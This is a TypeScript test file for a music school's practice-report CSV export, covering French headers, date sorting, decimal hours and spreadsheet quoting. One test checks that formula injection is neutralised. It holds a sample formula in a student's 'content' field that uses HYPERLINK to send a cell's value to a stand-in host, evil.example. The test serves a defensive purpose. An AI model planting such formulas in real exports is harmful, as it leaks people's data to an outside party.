import Papa from 'papaparse';
import type { PracticeReport } from '@crescendo/contracts';
import { resources } from '@crescendo/i18n/server';
import { csvFormats, spreadsheetCsv } from '@crescendo/web-kit/csv';
import { decimalHours, practiceCsvRows, type PracticeCsvInput } from '../src/practice-csv.js';

const ana = '11111111-1111-4111-8111-111111111111';
const ben = '22222222-2222-4222-8222-222222222222';

function report(over: Partial<PracticeReport>): PracticeReport {
  return {
    id: '33333333-3333-4333-8333-333333333333',
    studentId: ana,
    organizationId: '44444444-4444-4444-8444-444444444444',
    practiceDate: '2026-03-10',
    duration: 30,
    location: 'home',
    content: 'Gammes',
    nextGoals: 'Tempo',
    submittedAt: '2026-03-10T22:30:00.000Z',
    type: 'general',
    homeworkTitle: null,
    flags: [],
    flagsDismissed: false,
    ...over,
  };
}

const copy = resources.fr.practiceTeacher;
const input = (reports: PracticeReport[], format = csvFormats.fr): PracticeCsvInput => ({
  reports,
  students: new Map([
    [ana, { name: 'Ana Roy', email: 'ana@ecole.ca' }],
    [ben, { name: 'Ben Côté', email: 'ben@ecole.ca' }],
  ]),
  range: { from: '2026-03-01', to: '2026-03-31' },
  labels: {
    headers: copy.csv.headers,
    locations: copy.locations,
    types: copy.types,
    flags: copy.flags.kinds,
  },
  format,
  formatInstant: (iso) => `at ${iso}`,
});

describe('practice CSV rows', () => {
  it('starts with the French headers and keeps only the period, oldest first then by student', () => {
    const rows = practiceCsvRows(
      input([
        report({ studentId: ana, practiceDate: '2026-03-12' }),
        report({ studentId: ben, practiceDate: '2026-02-28' }),
        report({ studentId: ben, practiceDate: '2026-03-11' }),
        report({ studentId: ana, practiceDate: '2026-03-11' }),
        report({ studentId: ana, practiceDate: '2026-04-01' }),
      ]),
    );
    expect(rows[0]).toEqual([
      'Date',
      'Élève',
      'Courriel',
      'Durée (minutes)',
      'Durée (heures)',
      'Lieu',
      'Type',
      'Devoir',
      'Contenu',
      'Prochains objectifs',
      'Soumis le',
      'Signalements',
    ]);
    expect(rows.slice(1).map((row) => [row[0], row[1]])).toEqual([
      ['2026-03-11', 'Ana Roy'],
      ['2026-03-11', 'Ben Côté'],
      ['2026-03-12', 'Ana Roy'],
    ]);
  });

  it('says place, type, assignment and flags in words; a dismissed flag is no longer listed', () => {
    const [, homework, dismissed] = practiceCsvRows(
      input([
        report({
          practiceDate: '2026-03-02',
          duration: 45,
          location: 'school',
          type: 'homework',
          homeworkTitle: 'Étude no 3',
          flags: ['futureDate', 'repeatedContent'],
        }),
        report({ practiceDate: '2026-03-03', flags: ['tooOld'], flagsDismissed: true }),
      ]),
    );
    expect(homework).toEqual([
      '2026-03-02',
      'Ana Roy',
      'ana@ecole.ca',
      '45',
      '0,75',
      'École',
      'Assignée',
      'Étude no 3',
      'Gammes',
      'Tempo',
      'at 2026-03-10T22:30:00.000Z',
      `${copy.flags.kinds.futureDate} ${copy.flags.kinds.repeatedContent}`,
    ]);
    expect(dismissed![11]).toBe('');
  });

  it('writes hours with a decimal comma in French, a point in English, and no decimals when whole', () => {
    expect(decimalHours(45, csvFormats.fr)).toBe('0,75');
    expect(decimalHours(50, csvFormats.fr)).toBe('0,83');
    expect(decimalHours(120, csvFormats.fr)).toBe('2');
    expect(decimalHours(45, csvFormats.en)).toBe('0.75');
  });
});

describe('the practice CSV as spreadsheet text', () => {
  it('opens with a UTF-8 BOM, separates with ";" and CRLF, and reads back to the same cells', () => {
    const rows = practiceCsvRows(
      input([report({ content: 'Gammes; puis "arpèges"\nlentement', duration: 45 })]),
    );
    const text = spreadsheetCsv(rows, csvFormats.fr);
    expect(text.startsWith('\uFEFFDate;Élève;Courriel;Durée (minutes);Durée (heures);')).toBe(true);
    expect(text.split('\r\n')[1]).toContain(';45;0,75;Maison;Volontaire;;"Gammes; puis ""arpèges""');
    const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ';' });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toEqual(rows);
  });

  it("neutralises a student's formula that goes on over several lines (issue 34 §4)", () => {
    const content = '=HYPERLINK("https://evil.example/?d="&C2,\n"Voir la correction")';
    const nextGoals = ' \t@SUM(A1:A9)\r\n+1';
    const rows = practiceCsvRows(input([report({ content, nextGoals, duration: 45 })]));
    const text = spreadsheetCsv(rows, csvFormats.fr);
    expect(text).toContain(';"\'=HYPERLINK(""https://evil.example/?d=""&C2,\n""Voir la correction"")";');
    const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ';' });
    expect(parsed.errors).toEqual([]);
    const [, row] = parsed.data;
    expect(row![8]).toBe(`'${content}`);
    expect(row![9]).toBe(`'${nextGoals}`);
    expect(row![3]).toBe('45');
    expect(row![4]).toBe('0,75');
  });
});
